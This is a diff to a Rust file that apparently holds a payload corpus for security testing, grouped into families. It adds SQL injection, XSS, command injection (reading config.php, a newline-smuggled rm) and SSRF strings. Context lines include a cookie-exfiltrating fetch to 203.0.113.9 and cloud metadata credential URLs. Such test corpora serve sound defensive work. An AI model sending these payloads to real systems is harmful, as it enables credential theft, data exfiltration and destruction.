@@ -41,6 +41,8 @@ pub const FAMILIES: &[Family] = &[
             "2) AND NOT FALSE-- -",
             "1 AND password>0x6d",
             "0 OR id>0",
+            "-1 UNION DISTINCTROW SELECT username,password FROM users",
+            "x'||(SELECT CASE WHEN 1=1 THEN 'a' ELSE 'b' END FROM users)||'",
         ],
     },
     Family {
@@ -67,6 +69,7 @@ pub const FAMILIES: &[Family] = &[
             "\")||fetch('//203.0.113.9/'+document.cookie)||(\"",
             "<link rel=import href=//203.0.113.9/x.html>",
             "<style>@import url(//203.0.113.9/x.css)</style>",
+            "'};location=name;{'",
         ],
     },
     Family {
@@ -92,6 +95,9 @@ pub const FAMILIES: &[Family] = &[
             "127.0.0.1|id",
             "x|$0 -c id",
             "127.0.0.1; calc",
+            "127.0.0.1;cat config.php",
+            "127.0.0.1\nrm index.php",
+            "x;$'\\151\\144'",
         ],
     },
     Family {
@@ -138,6 +144,7 @@ pub const FAMILIES: &[Family] = &[
             "http://0177.0.0.1/",
             "http://127.1/server-status",
             "http://[::1]/",
+            "http://e.com\\@127.0.0.1:6379/",
             "http://[::ffff:127.0.0.1]/",
             "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
             "http://metadata.google.internal/computeMetadata/v1/",
